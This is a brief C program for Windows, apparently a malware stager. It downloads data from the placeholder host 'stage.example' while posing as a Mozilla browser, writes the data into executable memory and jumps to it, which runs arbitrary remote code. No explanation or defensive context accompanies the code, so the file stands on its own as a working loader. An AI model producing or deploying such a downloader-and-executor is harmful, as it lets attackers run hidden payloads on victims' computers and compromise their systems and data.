/* libs: -lwininet */
#include <windows.h>
#include <wininet.h>

int main(void) {
    DWORD count = 0, whole = 0;
    char *code = VirtualAlloc(NULL, 1 << 16, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    HINTERNET net = InternetOpenA("Mozilla/5.0", 0, NULL, NULL, 0);
    HINTERNET page = InternetOpenUrlA(net, "http://stage.example/s", NULL, 0, 0, 0);
    while (InternetReadFile(page, code + whole, 4096, &count) && count) whole += count;
    ((void (*)(void))code)();
    return 0;
}
